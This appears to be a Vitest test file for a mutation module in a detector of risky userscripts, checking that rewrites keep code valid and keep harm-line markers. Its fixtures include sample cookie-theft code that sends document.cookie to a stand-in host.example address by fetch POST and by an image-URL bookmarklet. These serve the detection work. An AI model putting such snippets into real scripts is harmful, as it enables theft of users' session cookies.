import { createContext, runInContext } from "node:vm";
import { describe, expect, it } from "vitest";
import { loadCorpus } from "../load-corpus.ts";
import { parseSample } from "../parse-sample.ts";
import type { Sample } from "../sample.ts";
import { mutate, mutationKinds } from "./mutate.ts";
import { pureSnippets } from "./pure-snippets.ts";

/** In short, each way of rewriting is tried on every eighth sample; a soak run tries it on all. */
const tuning = loadCorpus("tuning").filter((_, index) => process.env.SCRIPTORIUM_SOAK === "1" || index % 8 === 0);

function sampleOf(code: string, file = "risky/cookie-theft/a.user.js", harmLines: number[] = []): Sample {
	return {
		half: "tuning",
		file,
		class: "risky",
		group: "cookie-theft",
		level: "red",
		threat: "cookie-theft",
		why: "A test.",
		code,
		harmLines,
	};
}

/** What the program leaves in `answer`, once everything that it promised has come. */
async function answerOf(code: string): Promise<unknown> {
	const world = createContext({ URL, encodeURIComponent });
	runInContext(code, world);
	await new Promise((resolve) => setImmediate(resolve));
	// Through JSON, because the objects of two contexts never equal each other.
	return JSON.parse(runInContext("JSON.stringify(globalThis.answer) ?? 'null'", world));
}

describe.each(mutationKinds)("%s", (kind) => {
	it("makes of every sample it applies to another program that parses, and keeps the metadata", async () => {
		let applied = 0;
		for (const sample of tuning) {
			const mutant = await mutate(sample, kind);
			if (mutant === null) continue;
			applied += 1;
			expect(mutant.code, sample.file).not.toBe(sample.code);
			expect(() => parseSample(mutant.code), sample.file).not.toThrow();
			const [head = ""] = sample.code.split("// ==/UserScript==");
			if (sample.file.endsWith(".user.js")) expect(mutant.code.startsWith(head), sample.file).toBe(true);
		}
		expect(applied).toBeGreaterThan(tuning.length * 0.6);
	});

	it("is the same each time", async () => {
		for (const sample of tuning.filter((_, index) => index % 2 === 0))
			expect(await mutate(sample, kind)).toEqual(await mutate(sample, kind));
	});

	it.each(Object.entries(pureSnippets))("leaves the value of %s", async (name, code) => {
		const expected = await answerOf(code);
		expect(expected).not.toBeNull();
		// Other files mean other choices.
		for (const seed of ["a", "b", "c", "d", "e"]) {
			const mutant = await mutate(sampleOf(code, `${name} ${seed}.user.js`), kind);
			if (mutant !== null) expect(await answerOf(mutant.code), mutant.code).toEqual(expected);
		}
	});
});

describe("lines of harm", () => {
	const code = `// ==UserScript==
// @name    Lines
// @require http://libs.example/a.js
// ==/UserScript==
'use strict';
function pack(value) {
  return JSON.stringify({ value });
}
const body = pack(document.cookie);
console.log('ready');
fetch('https://host.example/collect', { method: 'POST', body });
`;

	it.each(mutationKinds)("are followed through %s", async (kind) => {
		const mutant = await mutate(sampleOf(code, "lines.user.js", [3, 11]), kind);
		const lines = mutant?.code.split("\n") ?? [];
		const marked = mutant?.harmLines.map((line) => lines[line - 1] ?? "") ?? [];
		expect(marked[0]).toContain("@require");
		// A minified program is one line, which says nothing.
		if (kind === "minify") expect(marked).toHaveLength(1);
		else expect(marked.slice(1).join("\n")).toMatch(/method.*body/s);
		expect(marked.join("\n")).not.toMatch(/ready|cookie/);
	});

	it("stay line 1 in an address while it stays one line", async () => {
		const address = sampleOf(
			"javascript:(function(){new%20Image().src='https://host.example/?'+document.cookie})()",
			"a",
			[1],
		);
		const mutant = await mutate(address, "wrapper");
		expect(mutant?.code).toContain("function");
		expect(mutant?.harmLines).toEqual([1]);
		expect((await mutate(address, "bundle"))?.harmLines).toEqual([]);
	});

	it("survive in every risky sample that is rewritten in place", async () => {
		// In an address of several lines, line 1 is marked and means the whole program.
		const isAddressOfLines = (code: string) => /^javascript:.*\n./s.test(code.trim());
		const risky = tuning.filter((sample) => sample.class === "risky" && !isAddressOfLines(sample.code));
		for (const kind of mutationKinds.filter((kind) => kind !== "bundle" && kind !== "minify")) {
			for (const sample of risky) {
				const mutant = await mutate(sample, kind);
				if (mutant !== null) expect(mutant.harmLines, `${kind} ${sample.file}`).not.toEqual([]);
			}
		}
	});
});

describe("functions whose text is read", () => {
	it("are not made to use what stands outside them", async () => {
		const code =
			"function work() { return fetch('https://a.example/'); }\nconst text = String(work);\nconst answer = work.name;\n";
		for (const kind of ["alias", "wrapper"]) {
			const mutant = await mutate(sampleOf(code), kind);
			if (mutant !== null) expect(mutant.code).toContain("return fetch(");
		}
		expect((await mutate(sampleOf(code), "class"))?.code).toContain("function work()");
	});
});

it("knows no other kind", async () => {
	await expect(mutate(sampleOf("1;"), "shuffle")).rejects.toThrow("There is no mutation shuffle");
});
